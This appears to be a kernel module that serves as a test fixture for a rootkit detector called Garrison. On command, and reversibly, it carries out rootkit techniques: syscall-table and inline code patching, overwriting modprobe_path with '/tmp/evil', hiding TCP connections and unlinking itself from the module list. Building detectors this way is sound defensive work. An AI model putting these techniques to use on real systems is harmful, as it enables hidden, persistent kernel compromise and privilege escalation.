// SPDX-License-Identifier: GPL-2.0
/*
 * What a root kit does to a running kernel, each act and its undoing on demand, for tests in throw-away guests only:
 *
 *	echo table >/sys/module/garrison_attack/parameters/act		and "table-undo" after it
 *	cat /sys/module/garrison_attack/parameters/act			whom the system call table names for personality(2)
 *
 * Everything aims at personality(2), which nobody in a guest needs: a diverted one returns DIVERTED.
 */
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#define DIVERTED 0x5eed
#define PERSONALITY 135
#define CALL 0xe8
#define JUMP 0xe9
#define BREAKPOINT 0xcc
#define DISPATCHER_MAX 16384
#define ENTRY_MAX 1024

static unsigned long (*lookup)(const char *name);

static unsigned long symbol(const char *name)
{
	unsigned long address = lookup(name);

	if (!address)
		pr_err("garrison_attack: no symbol %s\n", name);
	return address;
}

/* kallsyms_lookup_name is not exported; a kprobe on it tells where it is. */
static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

/* A second mapping of kernel memory, whatever the protection of its first is: of an address, and a page behind it. */
static void *map_again(unsigned long address)
{
	struct page *pages[2];
	unsigned long page = address & PAGE_MASK;
	void *alias;

	pages[0] = pfn_to_page(__pa(page) >> PAGE_SHIFT);
	pages[1] = pfn_to_page(__pa(page + PAGE_SIZE) >> PAGE_SHIFT);
	alias = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
	return alias ? alias + (address - page) : NULL;
}

static void unmap_again(void *alias)
{
	vunmap((void *)((unsigned long)alias & PAGE_MASK));
}

static int poke(unsigned long address, const void *bytes, size_t length)
{
	void *alias = map_again(address);

	if (!alias)
		return -ENOMEM;
	memcpy(alias, bytes, length);
	unmap_again(alias);
	return 0;
}

/* One place of kernel memory, as it was. */
struct place {
	unsigned long address;
	size_t length;
	u8 before[32];
};

static int alter(struct place *place, unsigned long address, const void *bytes, size_t length)
{
	if (!address || place->address || length > sizeof(place->before))
		return -EINVAL;
	memcpy(place->before, (void *)address, length);
	place->length = length;
	place->address = address;
	return poke(address, bytes, length);
}

static int undo(struct place *place)
{
	int error = place->address ? poke(place->address, place->before, place->length) : 0;

	place->address = 0;
	return error;
}

static struct place table, dispatcher, handler, modprobe, operations;

static asmlinkage long diverted(const struct pt_regs *regs)
{
	return DIVERTED;
}

static int alter_table(void)
{
	unsigned long address = symbol("sys_call_table"), target = (unsigned long)diverted;

	return address ? alter(&table, address + PERSONALITY * sizeof(target), &target, sizeof(target)) : -ENOENT;
}

static unsigned long branch_to(unsigned long from, size_t length, unsigned long target)
{
	unsigned long at;

	for (at = from; at < from + length; at++) {
		u8 code = *(u8 *)at;

		if ((code == CALL || code == JUMP) && at + 5 + *(s32 *)(at + 1) == target)
			return at;
	}
	return 0;
}

/* The dispatcher's own branch to the handler leads here instead. */
static int alter_dispatcher(void)
{
	unsigned long address = symbol("x64_sys_call"), target = symbol("__x64_sys_personality"), at;
	s32 distance;

	at = address && target ? branch_to(address, DISPATCHER_MAX, target) : 0;
	if (!at)
		return -ENOENT;
	distance = (s32)((unsigned long)diverted - (at + 5));
	return alter(&dispatcher, at + 1, &distance, sizeof(distance));
}

static asmlinkage long (*dispatcher_before)(const struct pt_regs *regs, unsigned int number);

/* Leaves no frame behind, so that nobody who sleeps in a system call returns to a module that has gone. */
static asmlinkage long diverted_dispatcher(const struct pt_regs *regs, unsigned int number)
{
	if (number == PERSONALITY)
		return DIVERTED;
	return dispatcher_before(regs, number);
}

/* The kernel's entry calls its dispatcher here. */
static struct {
	unsigned long at;
	s32 before, next;
	void *alias;
} entry;

static int write_entry(void *unused)
{
	memcpy(entry.alias, &entry.next, sizeof(entry.next));
	return 0;
}

/* Every system call passes here: nobody may be on the way meanwhile. */
static int poke_entry(s32 distance)
{
	int error;

	entry.next = distance;
	entry.alias = map_again(entry.at + 1);
	if (!entry.alias)
		return -ENOMEM;
	error = stop_machine(write_entry, NULL, NULL);
	unmap_again(entry.alias);
	return error;
}

static int alter_entry(void)
{
	unsigned long address = symbol("do_syscall_64");

	dispatcher_before = (void *)symbol("x64_sys_call");
	if (!address || !dispatcher_before || entry.at)
		return -EINVAL;
	entry.at = branch_to(address, ENTRY_MAX, (unsigned long)dispatcher_before);
	if (!entry.at)
		return -ENOENT;
	entry.before = *(s32 *)(entry.at + 1);
	return poke_entry((s32)((unsigned long)diverted_dispatcher - (entry.at + 5)));
}

static int undo_entry(void)
{
	int error = entry.at ? poke_entry(entry.before) : 0;

	entry.at = 0;
	return error;
}

/* The handler's first instruction becomes a jump. */
static int alter_handler(void)
{
	unsigned long address = symbol("__x64_sys_personality");
	u8 jump[5] = { JUMP };
	s32 distance = (s32)((unsigned long)diverted - (address + 5));

	memcpy(jump + 1, &distance, sizeof(distance));
	return alter(&handler, address, jump, sizeof(jump));
}

/* As text looks while the kernel patches it, but for good. Nobody may call the handler meanwhile. */
static int alter_breakpoint(void)
{
	static const u8 halfway[5] = { BREAKPOINT, 1, 2, 3, 4 };

	return alter(&handler, symbol("__x64_sys_personality"), halfway, sizeof(halfway));
}

static int alter_modprobe(void)
{
	return alter(&modprobe, symbol("modprobe_path"), "/tmp/evil", 10);
}

static int nothing_shown(struct seq_file *file, void *value)
{
	return 0;
}

/* /proc/net/tcp shows no connection any more. */
static int alter_operations(void)
{
	unsigned long address = symbol("tcp4_seq_ops"), target = (unsigned long)nothing_shown;

	return address ? alter(&operations, address + offsetof(struct seq_operations, show), &target, sizeof(target)) : -ENOENT;
}

static struct list_head *neighbour;

static int hide(void)
{
	if (neighbour)
		return -EINVAL;
	neighbour = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	return 0;
}

static int show_again(void)
{
	if (neighbour)
		list_add(&THIS_MODULE->list, neighbour);
	neighbour = NULL;
	return 0;
}

static int unseen(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe hook = { .symbol_name = "__x64_sys_personality", .pre_handler = unseen };
static bool hooked;

static int alter_kprobe(void)
{
	int error = register_kprobe(&hook);

	hooked = !error;
	return error;
}

static int undo_kprobe(void)
{
	if (hooked)
		unregister_kprobe(&hook);
	hooked = false;
	hook.addr = NULL;
	return 0;
}

static void traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops trace = { .func = traced };
static bool tracing;

static int alter_ftrace(void)
{
	char name[] = "__x64_sys_personality";
	int error = ftrace_set_filter(&trace, name, strlen(name), 1);

	if (!error)
		error = register_ftrace_function(&trace);
	tracing = !error;
	return error;
}

static int undo_ftrace(void)
{
	if (tracing)
		unregister_ftrace_function(&trace);
	tracing = false;
	return 0;
}

static int undo_table(void) { return undo(&table); }
static int undo_dispatcher(void) { return undo(&dispatcher); }
static int undo_handler(void) { return undo(&handler); }
static int undo_modprobe(void) { return undo(&modprobe); }
static int undo_operations(void) { return undo(&operations); }

static const struct {
	const char *name;
	int (*act)(void);
	int (*undo)(void);
} acts[] = {
	{ "table", alter_table, undo_table },
	{ "dispatcher", alter_dispatcher, undo_dispatcher },
	{ "entry", alter_entry, undo_entry },
	{ "handler", alter_handler, undo_handler },
	{ "breakpoint", alter_breakpoint, undo_handler },
	{ "modprobe", alter_modprobe, undo_modprobe },
	{ "operations", alter_operations, undo_operations },
	{ "hide", hide, show_again },
	{ "kprobe", alter_kprobe, undo_kprobe },
	{ "ftrace", alter_ftrace, undo_ftrace },
};

static int act(const char *text, const struct kernel_param *parameter)
{
	size_t i, length;

	for (i = 0; i < ARRAY_SIZE(acts); i++) {
		length = strlen(acts[i].name);
		if (strncmp(text, acts[i].name, length))
			continue;
		if (!strcmp(text + length, "") || !strcmp(text + length, "\n"))
			return acts[i].act();
		if (!strncmp(text + length, "-undo", 5))
			return acts[i].undo();
	}
	return -EINVAL;
}

/* Whom the table names: today's kernels do not ask it. */
static int named(char *buffer, const struct kernel_param *parameter)
{
	unsigned long address = symbol("sys_call_table");

	return address ? scnprintf(buffer, PAGE_SIZE, "%ps\n", ((void **)address)[PERSONALITY]) : -ENOENT;
}

static const struct kernel_param_ops act_ops = { .set = act, .get = named };
module_param_cb(act, &act_ops, NULL, 0600);
MODULE_PARM_DESC(act, "NAME or NAME-undo; reads as the function that the system call table names for personality");

static int __init attack_init(void)
{
	return find_lookup();
}

static void __exit attack_exit(void)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(acts); i++)
		acts[i].undo();
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Alters a running kernel; for tests of Garrison in throw-away guests");
